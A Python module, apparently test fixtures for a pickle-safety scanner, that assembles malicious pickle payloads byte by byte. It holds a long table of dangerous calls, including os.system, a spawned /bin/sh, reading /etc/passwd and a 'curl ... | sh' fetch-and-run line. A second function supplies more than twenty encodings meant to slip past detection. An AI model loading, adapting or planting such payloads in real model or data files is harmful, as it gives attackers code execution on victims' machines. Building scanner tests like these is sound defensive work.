"""Hostile pickles, assembled opcode by opcode and never loaded."""

# ruff: noqa: E501 - payloads and tables are read as rows

from __future__ import annotations

import struct
from collections.abc import Iterator
from dataclasses import dataclass


def text(value: str, style: int = 4) -> bytes:
    raw = value.encode()
    if style == 0:
        return b"V" + value.encode("raw-unicode-escape") + b"\n"
    if style == 1:
        return b"X" + struct.pack("<I", len(raw)) + raw
    if style == 2:
        return b"U" + bytes([len(raw)]) + raw
    if style == 3:
        return b"S" + repr(value).encode() + b"\n"
    return b"\x8c" + bytes([len(raw)]) + raw if len(raw) < 256 else b"X" + struct.pack("<I", len(raw)) + raw


def value(item: object, style: int = 4) -> bytes:
    if isinstance(item, str):
        return text(item, style)
    if isinstance(item, bytes):
        return b"B" + struct.pack("<I", len(item)) + item
    if isinstance(item, bool) or item is None:
        return {True: b"\x88", False: b"\x89", None: b"N"}[item]
    if isinstance(item, int):
        return b"J" + struct.pack("<i", item)
    if isinstance(item, list):
        return b"](" + b"".join(value(part, style) for part in item) + b"e"
    if isinstance(item, tuple):
        return b"(" + b"".join(value(part, style) for part in item) + b"t"
    if isinstance(item, dict):
        return b"}(" + b"".join(value(key, style) + value(part, style) for key, part in item.items()) + b"u"
    if isinstance(item, Ops):
        return item.code
    raise TypeError(item)


@dataclass(frozen=True)
class Ops:
    code: bytes


def global_(module: str, name: str, style: str = "stack") -> Ops:
    if style == "text":
        return Ops(f"c{module}\n{name}\n".encode())
    return Ops(text(module) + text(name) + b"\x93")


def call(function: Ops, *args: object, style: int = 4) -> Ops:
    return Ops(function.code + value(tuple(args), style) + b"R")


CALLS: tuple[tuple[str, str, tuple[object, ...]], ...] = (
    ("os", "system", ("touch /tmp/owned",)), ("posix", "system", ("id",)), ("nt", "system", ("calc",)), ("os", "popen", ("id",)),
    ("os", "execv", ("/bin/sh", ["sh"])), ("os", "remove", ("/tmp/x",)), ("os", "putenv", ("LD_PRELOAD", "/tmp/x.so")), ("os", "kill", (1, 9)),
    ("subprocess", "Popen", (["id"],)), ("subprocess", "run", (["id"],)), ("subprocess", "check_output", (["id"],)), ("subprocess", "getoutput", ("id",)),
    ("builtins", "exec", ("import os",)), ("builtins", "eval", ("1+1",)), ("builtins", "open", ("/etc/passwd",)), ("builtins", "__import__", ("os",)),
    ("__builtin__", "eval", ("1",)), ("__builtin__", "execfile", ("/tmp/x",)), ("builtins", "compile", ("1", "", "eval")), ("builtins", "print", ("hi",)),
    ("commands", "getoutput", ("id",)), ("runpy", "run_path", ("/tmp/x.py",)), ("runpy", "_run_code", ("1", {})), ("timeit", "timeit", ("1",)),
    ("timeit", "main", (["-n1", "1"],)), ("cProfile", "run", ("1",)), ("profile", "run", ("1",)), ("pdb", "run", ("1",)), ("bdb", "Bdb.run", ("1",)),
    ("trace", "Trace.run", ("1",)), ("doctest", "debug_script", ("1",)), ("code", "interact", ()), ("code", "InteractiveInterpreter.runcode", ("1",)),
    ("pty", "spawn", ("/bin/sh",)), ("webbrowser", "open", ("http://127.0.0.1/",)), ("pydoc", "pipepager", ("x", "id")), ("pydoc", "locate", ("os.system",)),
    ("pip", "main", (["install", "x"],)), ("pip._internal", "main", (["install", "x"],)), ("ensurepip", "_run_pip", (["install"],)), ("ctypes", "CDLL", ("/tmp/x.so",)),
    ("importlib", "import_module", ("os",)), ("importlib.util", "spec_from_file_location", ("x", "/tmp/x.py")), ("socket", "create_connection", (("127.0.0.1", 1),)),
    ("urllib.request", "urlopen", ("http://127.0.0.1/",)), ("urllib2", "urlopen", ("http://127.0.0.1/",)), ("shutil", "rmtree", ("/tmp/x",)), ("http.client", "HTTPConnection", ("127.0.0.1",)),
    ("asyncio", "create_subprocess_shell", ("id",)), ("asyncio.unix_events", "_UnixSubprocessTransport._start", ("id",)), ("multiprocessing.util", "spawnv_passfds", (b"/bin/id", [], [])),
    ("distutils.spawn", "spawn", (["id"],)), ("distutils.file_util", "write_file", ("/tmp/x", ["y"])), ("idlelib.run", "Executive.runcode", ("1",)),
    ("idlelib.calltip", "get_entity", ("1",)), ("idlelib.autocomplete", "AutoComplete.get_entity", ("1",)), ("lib2to3.pgen2.grammar", "Grammar.loads", (b"",)),
    ("numpy.f2py.crackfortran", "myeval", ("1",)), ("numpy.f2py.crackfortran", "getlincoef", ("1", {})), ("numpy.testing._private.utils", "runstring", ("1", {})),
    ("numpy", "load", ("/tmp/x.npy",)), ("joblib", "load", ("/tmp/x",)), ("pandas", "read_pickle", ("/tmp/x",)), ("torch", "load", ("/tmp/x",)), ("torch.hub", "load", ("a/b", "c")),
    ("torch.jit.unsupported_tensor_ops", "execWrapper", ("1", {}, {})), ("torch.utils.collect_env", "run", ("id",)), ("torch.utils.bottleneck.__main__", "run_cprofile", ("1", {})),
    ("torch._dynamo.guards", "GuardBuilder.get", ("1",)), ("torch.utils._config_module", "ConfigModule.load_config", (b"",)), ("torch.utils.cpp_extension", "load_inline", ("x",)),
    ("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression", ("1",)), ("torch", "ops.load_library", ("/tmp/x.so",)), ("marshal", "loads", (b"x",)),
    ("uuid", "_get_command_stdout", ("id",)), ("platform", "_syscmd_file", ("x",)), ("_osx_support", "_read_output", ("id",)), ("_aix_support", "_read_cmd_output", ("id",)),
    ("tempfile", "mkdtemp", ()), ("pathlib", "Path.write_text", ("x",)), ("io", "open", ("/tmp/x", "w")), ("_io", "FileIO", ("/tmp/x", "w")), ("codecs", "open", ("/tmp/x", "w")),
    ("logging.config", "listen", ()), ("sqlite3", "connect", ("/tmp/x",)), ("zipfile", "ZipFile", ("/tmp/x.zip", "w")), ("tarfile", "open", ("/tmp/x.tar",)), ("mmap", "mmap", (0, 1)),
    ("signal", "alarm", (1,)), ("atexit", "register", ()), ("threading", "Timer", (0,)), ("_thread", "start_new_thread", ()), ("sys", "exit", ()), ("sys", "settrace", ()),
    ("jinja2", "Template", ("{{1}}",)), ("yaml", "unsafe_load", ("1",)), ("werkzeug.utils", "import_string", ("os",)), ("django.utils.module_loading", "import_string", ("os",)),
    ("huggingface_hub", "hf_hub_download", ("a", "b")), ("transformers", "pipeline", ("x",)), ("keras.models", "load_model", ("/tmp/x",)), ("tensorflow", "io.write_file", ("x", "y")),
    ("requests", "get", ("http://127.0.0.1/",)), ("paramiko", "SSHClient", ()), ("cffi", "FFI.dlopen", ("x",)), ("setuptools.sandbox", "run_setup", ("x", [])),
    ("some.vendor.package", "system", ("id",)), ("some.vendor.package", "run_it", ("curl http://127.0.0.1/x | sh",)), ("evil", "helper", ("__import__('os').system('id')",)),
    ("sklearn.utils", "os.system", ("id",)), ("torch.serialization", "os.system", ("id",)), ("shutil", "os.system", ("id",)), ("collections", "_sys.modules", ()),
    ("linecache", "os.system", ("id",)), ("numpy", "os.popen", ("id",)), ("joblib", "parallel.os.system", ("id",)), ("transformers.utils", "import_utils.subprocess.run", (["id"],)),
    ("builtins", "object.__subclasses__", ()), ("builtins", "type.mro", ()), ("operator", "attrgetter", ("__class__.__mro__",)), ("gc", "get_objects", ()),
)  # fmt: skip


def encodings(module: str, name: str, args: tuple[object, ...]) -> Iterator[tuple[str, bytes]]:
    """The same call as different opcodes."""
    tup, args0 = value(args), value(args, 3)
    glob = f"c{module}\n{name}\n".encode()
    yield "reduce-0", glob + args0 + b"R."
    yield "reduce-2", b"\x80\x02" + glob + value(args, 1) + b"R."
    yield "stack-global", b"\x80\x04" + text(module) + text(name) + b"\x93" + tup + b"R."
    yield "inst", b"(" + b"".join(value(item, 3) for item in args) + f"i{module}\n{name}\n".encode() + b"."
    yield "obj", b"(" + glob + b"".join(value(item, 1) for item in args) + b"o."
    yield "newobj-ex", b"\x80\x04" + global_(module, name).code + tup + b"}\x92."
    yield (
        "memoised",
        b"\x80\x04" + text(module) + b"\x94" + text(name) + b"\x94" + b"00h\x00h\x01\x93\x94" + tup + b"R0N.",
    )
    yield "framed-lie", b"\x80\x04\x95" + struct.pack("<Q", 3) + text(module) + text(name) + b"\x93" + tup + b"R."
    yield "truncated", b"\x80\x02" + glob + value(args, 1) + b"R"
    yield "broken-after", b"\x80\x02" + glob + value(args, 1) + b"R\xff\xfe\xfd"
    yield "after-stop", b"\x80\x02K\x01." + b"\x80\x02" + glob + value(args, 1) + b"R."
    yield "joined-name", (
        b"\x80\x04" + call(Ops(global_("builtins", "getattr").code + value((global_("builtins", "str"), "join")) + b"R"), "", [*module]).code + text(name) + b"\x93" + tup + b"R."
    )  # fmt: skip
    yield (
        "via-getattr",
        call(
            Ops(
                b"\x80\x04"
                + call(global_("builtins", "getattr"), call(global_("importlib", "import_module"), module), name).code
            ),
            *args,
        ).code
        + b".",
    )
    yield "via-partial", call(call(global_("functools", "partial"), global_(module, name)), *args).code + b"."
    yield (
        "via-map",
        call(global_("builtins", "list"), call(global_("builtins", "map"), global_(module, name), [list(args)])).code
        + b".",
    )
    yield "via-reduce", call(global_("functools", "reduce"), global_(module, name), [1, 2]).code + b"."
    yield "nested", call(global_("pickle", "loads"), b"\x80\x02" + glob + value(args, 1) + b"R.").code + b"."
    yield (
        "torch-nested",
        call(global_("torch.storage", "_load_from_bytes"), b"\x80\x02" + glob + value(args, 1) + b"R.").code + b".",
    )
    yield (
        "build-setstate",
        b"\x80\x02ccollections\nOrderedDict\n)R}" + text("__setstate__", 1) + glob + b"sb" + text("id", 1) + b"b.",
    )
    yield "persistent", b"\x80\x02(" + text("storage", 1) + glob + value(args, 1) + b"RtQ."
    yield "in-dict", b"\x80\x02}" + text("w", 1) + glob + value(args, 1) + b"Rs."
    yield "octal-number", b"(I010\nI0x10\nL5L\nl0" + glob + args0 + b"R."
